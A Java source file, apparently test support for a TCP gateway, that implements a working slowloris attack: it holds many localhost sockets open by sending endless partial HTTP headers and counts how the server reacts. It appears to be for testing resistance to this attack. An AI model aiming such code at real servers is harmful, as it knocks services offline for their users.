package io.tcpgateway.support;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A slowloris against an HTTP port, from one thread: {@code connections} sockets, each sends a
 * request line and one header, then one more header line every {@code drip}, and never ends the
 * headers. A socket the server closes is opened again at the next drip, as a real attacker would.
 * Counts what the server did to it; stops on {@link #close()}.
 */
public final class HttpSlowloris implements AutoCloseable {

	private final InetSocketAddress target;

	private final SocketChannel[] sockets;

	private final Duration drip;

	private final Thread thread;

	private final AtomicInteger open = new AtomicInteger();

	private final AtomicInteger mostOpen = new AtomicInteger();

	private final AtomicLong connects = new AtomicLong();

	private final AtomicLong closedByServer = new AtomicLong();

	private volatile boolean running = true;

	private HttpSlowloris(int port, int connections, Duration drip) {
		this.target = new InetSocketAddress("127.0.0.1", port);
		this.sockets = new SocketChannel[connections];
		this.drip = drip;
		this.thread = new Thread(this::run, "slowloris");
	}

	public static HttpSlowloris start(int port, int connections, Duration drip) {
		HttpSlowloris attack = new HttpSlowloris(port, connections, drip);
		attack.thread.start();
		return attack;
	}

	/** Connections open from the attacker's side right now. */
	public int open() {
		return this.open.get();
	}

	public int mostOpen() {
		return this.mostOpen.get();
	}

	/** Connections the server accepted, counting each reopening. */
	public long connects() {
		return this.connects.get();
	}

	public long closedByServer() {
		return this.closedByServer.get();
	}

	private void run() {
		try (Selector selector = Selector.open()) {
			long nextDrip = 0;
			int line = 0;
			ByteBuffer sink = ByteBuffer.allocate(4096);
			while (this.running) {
				long now = System.nanoTime();
				if (now - nextDrip >= 0) {
					nextDrip = now + this.drip.toNanos();
					drip(selector, line++);
				}
				selector.select(100);
				for (SelectionKey key : selector.selectedKeys()) {
					SocketChannel socket = (SocketChannel) key.channel();
					int slot = (int) key.attachment();
					try {
						if (key.isConnectable() && socket.finishConnect()) {
							opened();
							key.interestOps(SelectionKey.OP_READ);
							write(socket, "GET /actuator/health HTTP/1.1\r\nHost: 127.0.0.1\r\n");
						}
						else if (key.isReadable()) {
							sink.clear();
							if (socket.read(sink) < 0) {
								closed(slot, true);
							}
						}
					}
					catch (IOException ex) {
						closed(slot, this.sockets[slot] != null && this.sockets[slot].isConnected());
					}
				}
				selector.selectedKeys().clear();
			}
		}
		catch (IOException ex) {
			throw new IllegalStateException(ex);
		}
		finally {
			for (int slot = 0; slot < this.sockets.length; slot++) {
				closed(slot, false);
			}
		}
	}

	/** Opens the slots that are not open and sends one more header line on those that are. */
	private void drip(Selector selector, int line) throws IOException {
		for (int slot = 0; slot < this.sockets.length && this.running; slot++) {
			SocketChannel socket = this.sockets[slot];
			if (socket == null) {
				socket = SocketChannel.open();
				this.sockets[slot] = socket;
				try {
					socket.configureBlocking(false);
					socket.setOption(StandardSocketOptions.SO_LINGER, 0);
					socket.connect(this.target);
					socket.register(selector, SelectionKey.OP_CONNECT, slot);
				}
				catch (IOException ex) {
					closed(slot, false);
				}
			}
			else if (socket.isConnected()) {
				try {
					write(socket, "X-Drip-" + line + ": " + "a".repeat(20) + "\r\n");
				}
				catch (IOException ex) {
					closed(slot, true);
				}
			}
		}
	}

	private void opened() {
		this.connects.incrementAndGet();
		this.mostOpen.accumulateAndGet(this.open.incrementAndGet(), Math::max);
	}

	private void closed(int slot, boolean byServer) {
		SocketChannel socket = this.sockets[slot];
		if (socket == null) {
			return;
		}
		this.sockets[slot] = null;
		if (socket.isConnected()) {
			this.open.decrementAndGet();
			if (byServer) {
				this.closedByServer.incrementAndGet();
			}
		}
		try {
			socket.close();
		}
		catch (IOException ex) {
			// closing what the server already closed
		}
	}

	private static void write(SocketChannel socket, String text) throws IOException {
		socket.write(ByteBuffer.wrap(text.getBytes(StandardCharsets.US_ASCII)));
	}

	@Override
	public void close() throws InterruptedException {
		this.running = false;
		this.thread.join(Duration.ofSeconds(30).toMillis());
	}

}
